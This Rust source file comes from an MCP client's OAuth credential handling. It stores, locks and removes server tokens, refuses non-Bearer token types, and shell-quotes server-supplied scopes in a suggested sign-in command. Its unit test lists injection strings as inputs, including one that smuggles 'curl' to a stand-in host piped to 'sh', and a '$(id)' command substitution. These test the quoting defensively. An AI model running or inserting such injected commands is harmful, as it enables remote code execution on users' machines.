//! The account of one server: where its tokens are, and how its client is identified.

use std::sync::Arc;

use async_trait::async_trait;
use reqwest::Url;
use rmcp::transport::auth::{AuthError, CredentialStore, StoredCredentials};

use crate::upstream::oauth::credential_file::{
    CredentialFile, CredentialsError, Entry, FileLock, FileVersion,
};
use crate::upstream::oauth::settings::OAuth;

/// The account that a server is used with. Cheap to clone.
#[derive(Clone)]
pub(in crate::upstream) struct Account(Arc<AccountInner>);

struct AccountInner {
    file: CredentialFile,
    /// The name of the server in the configuration.
    server: String,
    url: Url,
    oauth: OAuth,
    command: Option<String>,
}

impl Account {
    /// `command` is the beginning of the command that signs in to a server.
    pub(in crate::upstream) fn new(
        server: &str,
        url: Url,
        oauth: OAuth,
        file: CredentialFile,
        command: Option<String>,
    ) -> Self {
        Account(Arc::new(AccountInner { file, server: server.to_owned(), url, oauth, command }))
    }

    pub(super) fn url(&self) -> &Url {
        &self.0.url
    }

    pub(super) fn oauth(&self) -> &OAuth {
        &self.0.oauth
    }

    /// Says how to sign in, with these further scopes.
    pub(in crate::upstream) fn how_to_sign_in(&self, scopes: &[String]) -> String {
        let Some(command) = &self.0.command else { return "sign in to it".to_owned() };
        let scopes: String = scopes.iter().map(|scope| scope_option(scope)).collect();
        format!("run `{command} {}{scopes}`", self.0.server)
    }

    pub(super) fn entry(&self) -> Result<Option<Entry>, CredentialsError> {
        self.0.file.entry(self.0.url.as_str(), &self.0.oauth.account)
    }

    /// Returns the version of the credential file.
    pub(super) fn version(&self) -> Result<Option<FileVersion>, CredentialsError> {
        self.0.file.version()
    }

    /// Waits until no other task or process changes the tokens, and prevents it until the lock is dropped.
    pub(super) async fn lock(&self) -> Result<FileLock, CredentialsError> {
        self.0.file.lock_server(&format!("{}-{}", self.0.url, self.0.oauth.account)).await
    }

    /// Stores credentials. `client_secret` is that of a new client; the secret of the same client is kept.
    fn store(
        &self,
        credentials: StoredCredentials,
        client_secret: Option<String>,
    ) -> Result<(), CredentialsError> {
        let (server, account) = (self.0.url.as_str(), &self.0.oauth.account);
        self.0.file.update(|entries| {
            let old = entries.iter().position(|entry| entry.server == server && entry.account == *account);
            let old = old.map(|position| entries.remove(position));
            let kept = old.filter(|old| old.credentials.client_id == credentials.client_id);
            let client_secret = client_secret.or_else(|| kept.and_then(|old| old.client_secret));
            entries.push(Entry {
                server: server.to_owned(),
                account: account.clone(),
                client_secret,
                credentials,
            });
        })
    }

    /// Removes the credentials, and returns `true` if there were any.
    pub(in crate::upstream) async fn sign_out(&self) -> Result<bool, CredentialsError> {
        if self.entry()?.is_none() {
            return Ok(false);
        }
        // A running program must not store a token that it refreshes meanwhile.
        let _lock = self.lock().await?;
        self.remove()
    }

    fn remove(&self) -> Result<bool, CredentialsError> {
        if self.entry()?.is_none() {
            return Ok(false);
        }
        let (server, account) = (self.0.url.as_str(), &self.0.oauth.account);
        self.0
            .file
            .update(|entries| entries.retain(|entry| entry.server != server || entry.account != *account))?;
        Ok(true)
    }
}

/// The credentials of an account, as rmcp reads and writes them. The caller holds the [lock](Account::lock).
pub(super) struct AccountStore {
    pub(super) account: Account,
    /// The secret of a client that is being registered.
    pub(super) client_secret: Option<String>,
}

#[async_trait]
impl CredentialStore for AccountStore {
    async fn load(&self) -> Result<Option<StoredCredentials>, AuthError> {
        Ok(self.account.entry().map_err(|error| store_error(&error))?.map(|entry| entry.credentials))
    }

    async fn save(&self, credentials: StoredCredentials) -> Result<(), AuthError> {
        check_type(&credentials)?;
        self.account.store(credentials, self.client_secret.clone()).map_err(|error| store_error(&error))
    }

    async fn clear(&self) -> Result<(), AuthError> {
        self.account.remove().map_err(|error| store_error(&error)).map(drop)
    }

    /// Drops the tokens, so that they are not tried again and again.
    async fn on_refresh_token_rejected(&self, rejected: &StoredCredentials) -> Result<(), AuthError> {
        let mut credentials = rejected.clone();
        credentials.token_response = None;
        self.save(credentials).await
    }
}

/// Refuses a token of another type than `Bearer`, which rmcp would use like one: RFC 6749, section 7.1.
fn check_type(credentials: &StoredCredentials) -> Result<(), AuthError> {
    let response = serde_json::to_value(&credentials.token_response).unwrap_or_default();
    match response["token_type"].as_str() {
        Some(other) if !other.eq_ignore_ascii_case("bearer") => {
            Err(AuthError::InvalidTokenType(other.to_owned()))
        }
        _ => Ok(()),
    }
}

fn store_error(error: &CredentialsError) -> AuthError {
    AuthError::CredentialStoreError(error.to_string())
}

/// Returns the option for a scope as one word of a POSIX shell: the server chooses the scope, and somebody may paste the command.
fn scope_option(scope: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_./:@%+,-".contains(&byte);
    let word = if scope.bytes().all(is_plain) {
        scope.to_owned()
    } else {
        format!("'{}'", scope.replace('\'', r"'\''"))
    };
    // Otherwise it would be another option.
    let separator = if scope.starts_with('-') { "=" } else { " " };
    format!(" --scope{separator}{word}")
}

#[cfg(test)]
mod tests {
    use super::scope_option;

    #[test]
    fn writes_a_scope_as_one_word_of_a_shell() {
        for (scope, expected) in [
            ("notes:write", " --scope notes:write"),
            ("https://notes.example.org/write.all", " --scope https://notes.example.org/write.all"),
            ("a;curl${IFS}evil.example|sh", " --scope 'a;curl${IFS}evil.example|sh'"),
            ("$(id)`id`", " --scope '$(id)`id`'"),
            ("it's", r" --scope 'it'\''s'"),
            ("!!", " --scope '!!'"),
            ("--timeout", " --scope=--timeout"),
        ] {
            assert_eq!(scope_option(scope), expected);
        }
    }
}
